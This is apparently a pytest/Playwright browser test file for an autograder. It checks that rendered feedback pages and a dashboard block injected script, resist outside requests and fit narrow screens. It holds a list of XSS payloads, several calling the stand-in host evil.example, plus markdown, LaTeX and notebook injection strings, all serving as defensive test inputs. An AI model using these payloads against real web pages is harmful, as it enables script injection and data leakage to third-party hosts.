"""Pages in a real browser: nothing on them fires, nothing is asked for, and they fit a narrow screen."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext

from autograder.batch.grade import grade_submissions
from autograder.course.course import Course
from autograder.publishing.dashboard import write_dashboard
from autograder.publishing.export import write_pages
from autograder.report.safe_html import POLICY
from autograder.submission.submission import Submission
from autograder.tests.browser import IN_BROWSER, SETTLED, Listener, Visit, opened, visit
from autograder.tests.classroom import WRONG_SUMS, answered, hand_in, open_course, small, solved

pytestmark = IN_BROWSER

# What each payload causes in a page that does not stop it: the kind of event that the browser reports.
PAYLOADS = {
    "<script>alert(1)</script>": "dialog",
    "<script>console.log('here')</script>": "console",
    "<script>throw 1</script>": "exception",
    "<script src=http://evil.example/script.js></script>": "request",
    "<script>fetch('http://evil.example/fetched')</script>": "request",
    "<img src=x onerror=alert(2)>": "dialog",
    "<img src=http://evil.example/beacon.png>": "request",
    "<img srcset='http://evil.example/beacon.png 1x'>": "request",
    "<svg onload=alert(3)></svg>": "dialog",
    "<svg><image href=http://evil.example/image.svg /></svg>": "request",
    "<svg><script>alert(4)</script></svg>": "dialog",
    "<iframe src=http://evil.example/frame></iframe>": "frame",
    "<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>": "dialog",
    "<object data=http://evil.example/object></object>": "request",
    "<embed src=http://evil.example/embedded>": "request",
    "<video src=http://evil.example/video></video>": "request",
    "<link rel=stylesheet href=http://evil.example/style.css>": "request",
    "<style>@import 'http://evil.example/imported.css';</style>": "request",
    "<style>body{background:url(http://evil.example/background)}</style>": "request",
    "<p style='background:url(http://evil.example/inline)'>x</p>": "request",
    "<meta http-equiv=refresh content='0;url=http://evil.example/next'>": "navigation",
    "<form action=http://evil.example/form><button>x</button></form>": "request",
    "<a href='javascript:alert(6)'>x</a>": "dialog",
    "<b onclick=alert(7)>x</b>": "dialog",
    "<b onmouseover=\"window.open('http://evil.example/window')\">x</b>": "window",
    "<details open ontoggle=alert(8)></details>": "dialog",
    "<input onfocus='this.onfocus = null; alert(9)'>": "dialog",
    "<base href=http://evil.example/><img src=based>": "request",
}
LEADING = {payload for payload in PAYLOADS if "http-equiv" in payload}  # no policy stops a refresh
OWNED = "<script>document.title = 'owned'</script>"
CALLING = "<link rel=preconnect href=http://{listener}/>"
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(10)&gt;'>"
)
MATHEMATICS = r"""$\href{javascript:alert(20)}{x}$ $\unicode{<img src=x onerror=alert(21)>}$
$$\require{html}\style{background:url(http://evil.example/style)}{x}\class{"onclick=alert(22)}{x}$$
[x](javascript:alert(23)) [x]( java\tscript:alert(24)) <javascript:alert(25)> ![x](http://evil.example/image)
[x]: javascript:alert(26)
```html
<script>alert(27)</script>
```
"""
SHOWING = """from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
for text in {payloads!r}:
    for kind in (HTML, Markdown, Latex, Javascript):
        display(kind(text))
    display({{"image/svg+xml": f"<svg onload=alert(30)>{{text}}</svg>", "text/html": text}}, raw=True)
    print(text)
def row_sums(x):
    raise ValueError("</pre>" + "".join({payloads!r}))
Odd = type("</title><script>alert(31)</script>", (Exception,), {{}})
# {payloads!r}
raise Odd("</pre><script>alert(32)</script>")
"""
WIDE = """import matplotlib.pyplot as plt
plt.plot([1, 2])
plt.show()
from IPython.display import HTML, display
display(HTML("<table><tr>" + "<td>1234567890</td>" * 60 + "</tr></table>"))
print("x" * 500)
print(" ".join(["word"] * 200))
"""
LONG_WORDS = (
    "A long formula $"
    + "x_{1}+" * 80
    + "$, `"
    + "code" * 100
    + "`\n\n"
    + "| a " * 40
    + "|\n"
    + "|---" * 40
    + "|\n"
)
STUDENTS = ("ann", "ben", "dan", "eve", "zoe")


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with Listener() as listener:
        yield listener
        listener.shutdown()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> Iterator[BrowserContext]:
    with opened(tmp_path_factory.mktemp("profile"), listener) as browser:
        yield browser


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> Course:
    """Return a graded course with its pages: of honest students, a hostile one, and no notebook."""
    course = open_course(tmp_path_factory.mktemp("browser") / "course")
    exercise = small(course)
    payloads = [*PAYLOADS, OWNED, MUTATING, CALLING.format(listener=listener.address)]
    hostile = solved(exercise, row_sums=SHOWING.format(payloads=payloads), why=MATHEMATICS)
    honest = solved(exercise)
    texts = [("markdown", text) for text in (*payloads, MATHEMATICS)] + [("raw", "\n".join(payloads))]
    hostile["cells"] += [_cell(kind, text) for kind, text in texts]
    honest["cells"] += [_cell("code", WIDE), _cell("markdown", LONG_WORDS)]
    hand_in(course, "ann", honest)
    hand_in(course, "ben", solved(exercise, row_sums=WRONG_SUMS))
    hand_in(course, "dan", answered(exercise))
    hand_in(course, "eve", hostile)
    hand_in(course, "zoe", "".join(payloads))
    grade_submissions(course, [exercise])
    write_pages(course, [exercise])
    write_dashboard(course, [exercise])
    return course


def _cell(kind: str, text: str) -> dict[str, object]:
    code: dict[str, object] = {"outputs": [], "execution_count": None} if kind == "code" else {}
    return {"cell_type": kind, "metadata": {}, "source": text, **code}


def page(course: Course, name: str) -> Path:
    if name == "dashboard":
        return course.build / "dashboard.html"
    return Submission(course.root, name, "01_small").feedback


def visit_markup(
    browser: BrowserContext, folder: Path, *markup: str, awaited: str = "", seconds: float = SETTLED
) -> Visit:
    """Visit a page of this markup, in a folder of its own."""
    path = folder / "page.html"
    path.write_text("".join(("<!DOCTYPE html><title>as it was</title>", *markup)), encoding="utf-8")
    return visit(browser, path, awaited=awaited, seconds=seconds)


@pytest.mark.parametrize("name", [*STUDENTS, "dashboard"])
def test_a_page_fires_nothing_and_asks_for_nothing(
    name: str, course: Course, browser: BrowserContext, listener: Listener
) -> None:
    listener.drain()
    seen = visit(browser, page(course, name), seconds=1)
    assert seen.events == ()
    dashboard = f"{course.settings.title}: dashboard"
    assert seen.title == (dashboard if name == "dashboard" else f"01_small: feedback for {name}")
    assert listener.drain() == []


@pytest.mark.parametrize(("name", "width"), [*((student, 400) for student in STUDENTS), ("dashboard", 320)])
def test_a_page_fits_a_narrow_screen(name: str, width: int, course: Course, browser: BrowserContext) -> None:
    assert visit(browser, page(course, name), width=width).overflow <= 0


def test_what_a_hostile_page_would_do_is_on_it(course: Course) -> None:
    text = page(course, "eve").read_text(encoding="utf-8")
    assert all(f"alert({number})" in text for number in (1, 2, 3, 6, 7, 20, 30, 31, 32))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_browser_reports_what_a_payload_does_on_an_open_page(
    payload: str, browser: BrowserContext, listener: Listener, tmp_path: Path
) -> None:
    kind = PAYLOADS[payload]

    def reported(seconds: float) -> bool:
        listener.drain()
        seen = kind in visit_markup(browser, tmp_path, payload, awaited=kind, seconds=seconds).kinds
        return seen and (kind not in ("request", "navigation") or listener.called(seconds))

    assert any(
        reported(seconds) for seconds in (SETTLED, 2, 5)
    )  # a form is announced before its request leaves


def test_a_changed_title_and_a_mere_connection_are_seen_too(
    browser: BrowserContext, listener: Listener, tmp_path: Path
) -> None:
    assert visit_markup(browser, tmp_path, OWNED).title == "owned"
    listener.drain()
    visit_markup(browser, tmp_path, CALLING.format(listener=listener.address))
    assert listener.called()


def test_a_page_that_is_too_wide_is_seen(browser: BrowserContext, tmp_path: Path) -> None:
    assert visit_markup(browser, tmp_path, "<div style='width: 2000px'>x</div>").overflow > 0
    assert visit_markup(browser, tmp_path, "<div>x</div>").overflow <= 0


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if payload not in LEADING])
def test_the_policy_alone_stops_what_a_page_might_let_through(
    payload: str, browser: BrowserContext, listener: Listener, tmp_path: Path
) -> None:
    listener.drain()
    policy = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
    seen = visit_markup(browser, tmp_path, policy, payload, OWNED)
    assert not seen.kinds & {"dialog", "console", "exception", "window"}
    assert seen.title == "as it was"
    # To where a form or a frame leads, Chromium connects before it asks the policy, but it sends nothing.
    assert set(listener.drain()) <= {"a connection", ""}
